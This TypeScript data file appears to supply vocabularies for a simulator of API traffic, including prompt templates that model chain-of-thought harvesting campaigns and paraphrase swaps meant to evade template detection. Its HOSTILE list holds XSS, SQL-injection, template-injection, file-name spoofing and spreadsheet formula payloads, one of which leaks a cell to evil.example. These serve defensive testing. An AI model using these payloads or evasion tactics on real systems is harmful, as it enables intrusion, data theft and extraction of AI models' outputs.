// Engine, simulator (any thread). The words, clients and networks traffic is made of. Plain data:
// varied enough that benign prompts rarely repeat, with a few deliberately popular pieces (openings,
// SDK user agents, free-mail domains) that many strangers share, as in real logs.

export const FIRST_NAMES = ['james', 'mary', 'john', 'patricia', 'robert', 'jennifer', 'michael', 'linda', 'david', 'elizabeth', 'william', 'barbara', 'richard', 'susan', 'joseph', 'jessica', 'thomas', 'sarah', 'chris', 'karen', 'daniel', 'lisa', 'matthew', 'nancy', 'anthony', 'sandra', 'mark', 'ashley', 'paul', 'emily', 'steven', 'donna', 'andrew', 'michelle', 'kevin', 'carol', 'brian', 'amanda', 'george', 'melissa', 'priya', 'rahul', 'ananya', 'arjun', 'wei', 'li', 'hiroshi', 'yuki', 'minjun', 'seoyeon', 'lukas', 'lena', 'jonas', 'mia', 'felix', 'emma', 'lucas', 'chloe', 'hugo', 'ines', 'mateo', 'sofia', 'joao', 'ana', 'olu', 'amara', 'ivan', 'olga', 'ahmed', 'fatima', 'omar', 'layla', 'noah', 'ava', 'liam', 'zoe', 'ethan', 'nora', 'leo', 'ella'];
export const LAST_NAMES = ['smith', 'johnson', 'williams', 'brown', 'jones', 'garcia', 'miller', 'davis', 'rodriguez', 'martinez', 'hernandez', 'lopez', 'wilson', 'anderson', 'thomas', 'taylor', 'moore', 'jackson', 'martin', 'lee', 'thompson', 'white', 'harris', 'clark', 'lewis', 'walker', 'young', 'allen', 'king', 'wright', 'scott', 'green', 'baker', 'adams', 'nelson', 'hill', 'campbell', 'mitchell', 'roberts', 'carter', 'sharma', 'patel', 'kumar', 'singh', 'wang', 'zhang', 'chen', 'liu', 'tanaka', 'suzuki', 'kim', 'park', 'choi', 'mueller', 'schmidt', 'schneider', 'fischer', 'weber', 'dubois', 'moreau', 'laurent', 'silva', 'santos', 'oliveira', 'rossi', 'russo', 'ferrari', 'ivanov', 'petrov', 'novak', 'kowalski', 'nowak', 'okafor', 'mensah', 'haddad', 'khan', 'ali', 'yilmaz', 'nguyen', 'tran'];

/** Free-mail domains, most popular first (picked with a Zipf skew). */
export const FREE_MAIL = ['gmail.com', 'outlook.com', 'yahoo.com', 'hotmail.com', 'icloud.com', 'proton.me', 'gmx.de', 'web.de', 'qq.com', '163.com', 'mail.ru', 'yandex.ru', 'naver.com', 'orange.fr', 'libero.it', 'aol.com', 'zoho.com', 'fastmail.com'];
export const DISPOSABLE_MAIL = ['mailinator.com', 'tempmail.dev', 'guerrillamail.com', 'sharklasers.com', 'yopmail.com', '10minutemail.net', 'inboxkitten.com', 'dropmail.me'];

/** Country code, weight, UTC offset in hours (for diurnal cadence), card country often equal. */
export const COUNTRIES: ReadonlyArray<readonly [string, number, number]> = [
  ['US', 30, -6], ['IN', 10, 5.5], ['GB', 6, 0], ['DE', 6, 1], ['BR', 5, -3], ['FR', 4, 1], ['CA', 4, -5], ['JP', 4, 9],
  ['KR', 3, 9], ['AU', 3, 10], ['ES', 3, 1], ['IT', 3, 1], ['NL', 2, 1], ['PL', 2, 1], ['MX', 2, -6], ['ID', 2, 7],
  ['NG', 2, 1], ['TR', 2, 3], ['SG', 1, 8], ['SE', 1, 1], ['VN', 2, 7], ['PH', 2, 8], ['ZA', 1, 2], ['AR', 1, -3],
];

/** Residential ISPs: [asn, country, first octet, second octets ...]. Home IPs are drawn from a bounded
 * dynamic pool per ISP, so a few strangers end up on the same address over the weeks. */
export const ISPS: ReadonlyArray<readonly [number, string, number, readonly number[]]> = [
  [7922, 'US', 73, [12, 34, 71, 98, 150, 201]], [701, 'US', 71, [105, 171, 244]], [7018, 'US', 99, [8, 38, 112]], [20115, 'US', 24, [30, 107, 179]],
  [22773, 'US', 68, [4, 101, 224]], [55836, 'IN', 49, [36, 37, 205]], [24560, 'IN', 122, [161, 172]], [2856, 'GB', 86, [128, 144, 160]],
  [5089, 'GB', 82, [21, 35]], [3320, 'DE', 79, [192, 210, 246]], [3209, 'DE', 88, [64, 65, 70]], [28573, 'BR', 177, [32, 96, 140]],
  [3215, 'FR', 90, [3, 24, 91]], [12322, 'FR', 78, [192, 240]], [812, 'CA', 99, [224, 240]], [4713, 'JP', 153, [156, 204]],
  [2516, 'JP', 106, [72, 154]], [4766, 'KR', 121, [128, 160]], [1221, 'AU', 110, [140, 174]], [3352, 'ES', 83, [32, 45]],
  [3269, 'IT', 79, [20, 40]], [1136, 'NL', 84, [24, 80]], [5617, 'PL', 83, [4, 24]], [8151, 'MX', 187, [140, 190]],
  [7713, 'ID', 36, [66, 72]], [29465, 'NG', 105, [112, 113]], [9121, 'TR', 78, [160, 180]], [4773, 'SG', 116, [14, 86]],
  [3301, 'SE', 90, [224, 230]], [7552, 'VN', 113, [160, 185]], [9299, 'PH', 112, [198, 200]], [37457, 'ZA', 102, [132, 182]],
  [7303, 'AR', 181, [44, 46]],
];

/** Hosting / proxy networks: [asn, country, first octet, second octet]. */
export const HOSTING: ReadonlyArray<readonly [number, string, number, number]> = [
  [16509, 'US', 3, 88], [16509, 'US', 54, 162], [14061, 'US', 159, 89], [14061, 'SG', 128, 199], [24940, 'DE', 95, 216],
  [16276, 'FR', 51, 75], [20473, 'US', 45, 77], [63949, 'US', 172, 104], [9009, 'NL', 185, 107], [9009, 'GB', 89, 238],
  [212238, 'US', 156, 146], [60068, 'NL', 185, 153], [396982, 'US', 34, 118], [8075, 'US', 20, 84], [45102, 'SG', 47, 88],
];

/** Mobile carriers whose customers sit behind carrier-grade NAT: [asn, country, first, second]. */
export const CARRIERS: ReadonlyArray<readonly [number, string, number, number]> = [
  [21928, 'US', 172, 58], [3209, 'DE', 46, 114], [55836, 'IN', 157, 40], [20057, 'US', 166, 205], [45609, 'IN', 106, 205],
];

export interface Client {
  ua: string;
  ja4: string;
  endpoint: string;
}

/** Official SDKs and common clients, most used first. Everyone shares these. */
export const COMMON_CLIENTS: readonly Client[] = [
  { ua: 'anthropic-sdk-python/0.39.0', ja4: 't13d1516h2_8daaf6152771_02713d6af862', endpoint: '/v1/messages' },
  { ua: 'openai-python/1.54.0', ja4: 't13d1516h2_8daaf6152771_02713d6af862', endpoint: '/v1/chat/completions' },
  { ua: 'anthropic-sdk-typescript/0.32.1', ja4: 't13d1517h2_8daaf6152771_b0da82dd1658', endpoint: '/v1/messages' },
  { ua: 'OpenAI/NodeJS/4.73.0', ja4: 't13d1517h2_8daaf6152771_b0da82dd1658', endpoint: '/v1/chat/completions' },
  { ua: 'anthropic-sdk-python/0.37.1', ja4: 't13d1516h2_8daaf6152771_02713d6af862', endpoint: '/v1/messages' },
  { ua: 'openai-python/1.52.2', ja4: 't13d1516h2_8daaf6152771_02713d6af862', endpoint: '/v1/chat/completions' },
  { ua: 'curl/8.5.0', ja4: 't13d3112h2_e8f1e7e78f70_6bebaf5329ac', endpoint: '/v1/messages' },
  { ua: 'langchain-anthropic/0.3.0 anthropic-sdk-python/0.39.0', ja4: 't13d1516h2_8daaf6152771_02713d6af862', endpoint: '/v1/messages' },
  { ua: 'Go-http-client/2.0', ja4: 't13d1310h2_e8a523a41297_f3c74d0b6ff3', endpoint: '/v1/messages' },
  { ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', ja4: 't13d1517h2_8daaf6152771_b1ff8ab2d16f', endpoint: '/v1/messages' },
  { ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15', ja4: 't13d2014h2_a09f3c656075_14788d8d241b', endpoint: '/v1/messages' },
  { ua: 'Cursor/0.44.11', ja4: 't13d1517h2_8daaf6152771_b0da82dd1658', endpoint: '/v1/chat/completions' },
];

export const MOBILE_CLIENTS: readonly Client[] = [
  { ua: 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148', ja4: 't13d2014h2_a09f3c656075_e42f34c56612', endpoint: '/v1/messages' },
  { ua: 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36', ja4: 't13d1516h2_8daaf6152771_e5627efa2ab1', endpoint: '/v1/messages' },
  { ua: 'okhttp/4.12.0', ja4: 't13d1715h2_5b57614c22b0_3d5424432f57', endpoint: '/v1/chat/completions' },
];

/** Custom harvesting clients (hydra campaigns build their own). */
export const CUSTOM_CLIENTS: readonly Client[] = [
  { ua: 'python-requests/2.31.0', ja4: 't13d1812h1_85036bcba153_b26ce05bbdd6', endpoint: '/v1/messages' },
  { ua: 'aiohttp/3.9.5 Python/3.11', ja4: 't13d1812h1_85036bcba153_375ca2c5e164', endpoint: '/v1/messages' },
  { ua: 'dc-harvest/2.3.1', ja4: 't13d1913h2_c1d6c3d74a2f_0e7c1b53a8f2', endpoint: '/v1/messages' },
  { ua: 'httpx/0.27.0', ja4: 't13d1516h2_8daaf6152771_9f2c0c8e3e4b', endpoint: '/v1/chat/completions' },
];

/** Strings that must survive every consumer unharmed and never be interpreted. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3+cmd|\' /C notepad\'!A1',
  'invoice\u202Efdp.exe',
  'bell\u0007and\u0001soh',
  '"><svg/onload=alert(document.domain)>',
  "'; DROP TABLE accounts; --",
  '{{constructor.constructor("alert(1)")()}}',
];

/** Popular openings many unrelated people type (hubs for template linkage). */
export const OPENINGS = ['Summarize this:', 'Can you help me', 'Explain', 'Translate to English:', 'Write a', 'Fix this code:', 'What is', 'How do I', 'Rewrite this email to sound more professional:', 'Give me ideas for', 'Proofread:', 'Compare', 'Why does', 'Make a list of', 'Draft a reply to'];

export const TOPICS = ['my landlord', 'a birthday party', 'the french revolution', 'photosynthesis', 'a job interview', 'kubernetes pods', 'a sourdough starter', 'my thesis introduction', 'the quarterly report', 'a cover letter', 'python list comprehensions', 'tax deductions for freelancers', 'a wedding toast', 'marathon training', 'react hooks', 'the causes of inflation', 'a bedtime story about a dragon', 'climate adaptation', 'sql joins', 'my cat scratching furniture', 'a product launch', 'the keto diet', 'quantum entanglement', 'a road trip through portugal', 'a slack message to my team', 'excel pivot tables', 'negotiating a raise', 'a linkedin post', 'the plot of hamlet', 'rust lifetimes', 'a grant proposal', 'gardening in clay soil', 'a complaint to my airline', 'docker networking', 'a toast for my parents', 'learning japanese', 'a budget spreadsheet', 'the immune system', 'a haiku about autumn', 'my startup pitch'];
export const VERBS = ['explain', 'summarize', 'improve', 'shorten', 'describe', 'compare', 'list', 'outline', 'rewrite', 'translate', 'check', 'simplify', 'expand', 'critique', 'plan', 'draft'];
export const ADJECTIVES = ['simple', 'short', 'detailed', 'friendly', 'formal', 'funny', 'clear', 'quick', 'polite', 'creative', 'honest', 'concise', 'persuasive', 'gentle', 'technical', 'casual'];
export const WORDS = ['the', 'meeting', 'was', 'moved', 'to', 'thursday', 'because', 'our', 'client', 'asked', 'for', 'more', 'time', 'and', 'budget', 'numbers', 'look', 'better', 'than', 'expected', 'however', 'shipping', 'delays', 'hurt', 'sales', 'in', 'march', 'we', 'need', 'a', 'plan', 'customers', 'said', 'app', 'feels', 'slow', 'on', 'older', 'phones', 'team', 'agreed', 'rewrite', 'login', 'flow', 'next', 'sprint', 'results', 'show', 'growth', 'among', 'students', 'who', 'study', 'at', 'night', 'survey', 'found', 'most', 'people', 'prefer', 'email', 'weather', 'ruined', 'picnic', 'so', 'it', 'inside', 'recipe', 'calls', 'two', 'cups', 'of', 'flour', 'report', 'notes', 'rising', 'costs', 'energy', 'landlord', 'refused', 'repair', 'heater', 'during', 'winter', 'my', 'daughter', 'loves', 'dinosaurs', 'story', 'ends', 'with', 'surprise', 'twist'];

export const LANGS = ['python', 'typescript', 'rust', 'go', 'java', 'c++', 'sql', 'kotlin'];
export const CODE_TASKS = ['add input validation to', 'write unit tests for', 'refactor', 'find the bug in', 'add type hints to', 'optimise', 'document', 'make thread-safe', 'convert to async', 'add retries with backoff to'];
export const CODE_SNIPPETS = [
  'def load(path):\n    with open(path) as f:\n        return json.load(f)',
  'function total(items) {\n  let t = 0;\n  for (const i of items) t += i.price * i.qty;\n  return t;\n}',
  'fn parse(s: &str) -> Option<u32> {\n    s.trim().parse().ok()\n}',
  'SELECT u.id, count(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.id;',
  'func fetch(url string) ([]byte, error) {\n\tresp, err := http.Get(url)\n\tif err != nil { return nil, err }\n\tdefer resp.Body.Close()\n\treturn io.ReadAll(resp.Body)\n}',
  'class Cache:\n    def __init__(self):\n        self.d = {}\n    def get(self, k):\n        return self.d[k]',
  'const res = await fetch(api + "/users/" + id);\nconst user = await res.json();\nsetUser(user);',
  'public int max(int[] xs) {\n  int m = 0;\n  for (int x : xs) if (x > m) m = x;\n  return m;\n}',
];

/** University homework: the same assignments pasted by many students of one course. */
export const HOMEWORK = [
  'Problem 3: Prove by induction that the sum of the first n odd numbers equals n^2. Show your work.',
  'Exercise 2.4: Implement binary search in Python and explain its time complexity.',
  'Question 5: A ball is thrown upward at 20 m/s. How long until it returns to the ground? Show all steps.',
  'Write a 500-word essay on the causes of the First World War for HIST 201.',
  'Lab 4: Explain why the Krebs cycle is considered amphibolic.',
  'Assignment 1: Normalize this relation to 3NF: R(student_id, name, course_id, course_name, grade).',
  'Problem set 6, Q2: Find the eigenvalues of [[2,1],[1,2]] and interpret them.',
  'Discuss the trolley problem from a utilitarian and a deontological perspective (PHIL 110).',
  'Homework 7: Write a recursive function for the Fibonacci sequence and then make it efficient.',
  'Explain the difference between TCP and UDP for CS 340 quiz prep.',
  'Compute the derivative of x^3 * ln(x) and explain each step.',
  'Summarize chapter 4 of the course reader on supply and demand elasticity.',
];

/** SaaS backend: one product template, sent millions of times with the customer's text in a slot. */
export const SAAS_TEMPLATES = [
  'Classify the sentiment of this customer review as positive, negative or neutral. Respond with one word.\nReview: ',
  'Extract the order number, product and complaint category from this support ticket as JSON.\nTicket: ',
];

/** Capability-targeted harvesting templates. {cot} is the chain-of-thought elicitation slot,
 * other {slots} are filled per request. */
export const HARVEST_TEMPLATES: Record<string, readonly string[]> = {
  agentic: [
    'You are an autonomous agent with access to the tools {tools}. Goal: {goal}. {cot} Before every tool call, state your plan; finish with the final answer.',
    'Act as a software agent operating in a sandbox. Task {id}: {goal}. Available tools: {tools}. {cot}',
  ],
  coding: [
    'Solve the following {lang} problem. {cot} Cover edge cases before writing the final code.\nProblem {id}: {problem}',
    'Write production-quality {lang} code to {problem}. {cot} Then give the complete implementation and tests.',
  ],
  planning: [
    'Create a detailed {n}-step plan to {goal}. {cot} For each step, list risks and how to verify completion.',
    'Long-horizon task {id}: {goal}. Break it into milestones over {n} weeks. {cot}',
  ],
  tooluse: [
    'Given the function schema {schema}, decide which calls to make to {goal}. {cot} Output the calls as JSON.',
    'You can call {tools}. User request: "{goal}". {cot} Return the exact sequence of function calls.',
  ],
  math: [
    'Problem #{id}: {math} {cot} Verify the answer at the end.',
    'Competition question {id}. {math} {cot}',
  ],
};

export const COT_PHRASES = ['Think step by step and show all reasoning.', "Let's think step by step. Show every intermediate step of your reasoning.", 'Reason through this carefully step by step, writing out your full chain of thought.', 'Show all of your reasoning step by step before the answer.'];
/** Softer paraphrases used by stealthier campaigns. */
export const COT_PARAPHRASES = ['Walk me through how you get there.', 'Please explain your thinking as you go.', 'Describe your approach in detail first.', 'Take it one piece at a time and narrate your logic.', 'Lay out the intermediate steps too.'];
export const TOOLS = ['search_web, read_file, write_file', 'run_sql, plot_chart', 'bash, python, git', 'calendar.create_event, email.send', 'browser.open, browser.click, browser.type', 'kubectl, helm', 'get_weather, book_flight, convert_currency'];
export const GOALS = ['migrate a monolith to microservices', 'find and fix a memory leak in a web server', 'book the cheapest multi-city trip for a team of five', 'reconcile two CSV ledgers and report mismatches', 'set up CI for a monorepo', 'plan a product launch across three markets', 'refactor a legacy payment module', 'scrape and summarize competitor pricing', 'design a database schema for a clinic', 'triage 200 GitHub issues by severity', 'build a recommendation pipeline', 'write a compiler pass for constant folding'];
export const PROBLEMS = ['merge k sorted linked lists', 'implement an LRU cache with O(1) operations', 'find the longest palindromic substring', 'parse and evaluate arithmetic expressions', 'detect cycles in a directed graph', 'implement a rate limiter with a sliding window', 'serialize and deserialize a binary tree', 'compute edit distance between two strings', 'schedule tasks with dependencies', 'implement a trie with prefix search'];
export const MATH = ['Find all integer solutions of x^2 - y^2 = {a}.', 'How many ways can {a} identical balls be placed in 4 distinct boxes?', 'Prove that sqrt({a}) is irrational or give a counterexample.', 'A sequence satisfies a_(n+1) = 2a_n + {a}, a_1 = 1. Find a_10.', 'What is the remainder when 7^{a} is divided by 13?', 'Compute the expected number of rolls of a fair die to see all six faces, then generalize to {a} faces.'];
export const SCHEMAS = ['{"name":"get_user","parameters":{"id":"string"}}', '{"name":"create_invoice","parameters":{"amount":"number","currency":"string"}}', '{"name":"search","parameters":{"query":"string","limit":"integer"}}'];

/** Paraphrase pairs a stealthy campaign swaps in to defeat exact template matching. */
export const SYNONYMS: ReadonlyArray<readonly [string, string]> = [
  ['Create', 'Put together'], ['detailed', 'thorough'], ['Solve', 'Work out'], ['following', 'next'], ['Write', 'Produce'],
  ['decide', 'figure out'], ['Given', 'Using'], ['Task', 'Job'], ['problem', 'exercise'], ['Goal', 'Objective'], ['final', 'complete'],
];

export const REVIEWS = ['Arrived late and the box was crushed.', 'Absolutely love it, works as described!', 'It is fine, nothing special.', 'Customer service never answered my emails.', 'Battery lasts two days, great value.', 'Wrong size, returning it.', 'Exceeded expectations, will buy again.', 'Stopped working after a week.'];
